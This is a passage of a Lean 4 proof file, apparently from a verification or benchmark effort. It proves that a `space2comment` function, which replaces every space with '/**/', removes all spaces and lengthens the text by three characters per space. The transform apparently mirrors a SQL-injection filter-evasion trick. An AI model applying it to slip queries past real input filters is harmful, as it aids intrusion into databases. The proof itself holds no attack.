          simp only [List.isPrefixOf, Bool.and_true, beq_eq_false_iff_ne, ne_eq]
          exact fun h => hca h.symm
        simp only [replaceAux, hpre, Bool.false_eq_true, if_false, List.foldr_cons,
          if_neg hca, ih rest hr]

/-- Helper: Python replace with a single-character pattern, as a fold. -/
theorem pyReplace_single (a : Char) (new s : List Char) :
    pyReplace [a] new s =
      s.foldr (fun c acc => if c = a then new ++ acc else c :: acc) [] := by
  unfold pyReplace
  have hne : ([a] : List Char).isEmpty = false := rfl
  rw [hne]
  simp only [Bool.false_eq_true, if_false]
  exact replaceAux_single a new s.length s (Nat.le_refl _)

/-- Helper: the character-wise form of `space2comment` has no spaces and
grows by three characters per input space. -/
theorem space2comment_foldr (t : List Char) :
    List.count ' ' (t.foldr (fun c acc => if c = ' ' then "/**/".data ++ acc else c :: acc) []) = 0 ∧
      (t.foldr (fun c acc => if c = ' ' then "/**/".data ++ acc else c :: acc) []).length =
        t.length + 3 * List.count ' ' t := by
  induction t with
  | nil => exact ⟨rfl, rfl⟩
  | cons c t ih =>
    by_cases hc : c = ' '
    · subst hc
      constructor
      · rw [List.foldr_cons, if_pos rfl, List.count_append, ih.1]
        decide
      · rw [List.foldr_cons, if_pos rfl, List.length_append, ih.2, List.length_cons,
          List.count_cons]
        simp only [beq_self_eq_true, if_true, List.length_cons, List.length_nil]
        omega
    · have hcc : (c == ' ') = false := by
        simp only [beq_eq_false_iff_ne, ne_eq]
        exact hc
      constructor
      · rw [List.foldr_cons, if_neg hc, List.count_cons, ih.1, hcc]
        simp
      · rw [List.foldr_cons, if_neg hc, List.length_cons, ih.2, List.length_cons,
          List.count_cons, hcc]
        simp only [Bool.false_eq_true, if_false]
        omega

/-- C8: for every input string, `space2comment` leaves no literal space in
its output, and the output length exceeds the input length by exactly three
characters per input space. -/
theorem claim_C8_thm (s : List Char) :
    (space2comment s).count ' ' = 0 ∧
      (space2comment s).length = s.length + 3 * s.count ' ' := by
  have hrw : space2comment s =
      s.foldr (fun c acc => if c = ' ' then "/**/".data ++ acc else c :: acc) [] := by
    show pyReplace " ".data "/**/".data s = _
    have h1 : " ".data = [' '] := rfl
    rw [h1]
    exact pyReplace_single ' ' "/**/".data s
  rw [hrw]
  exact space2comment_foldr s
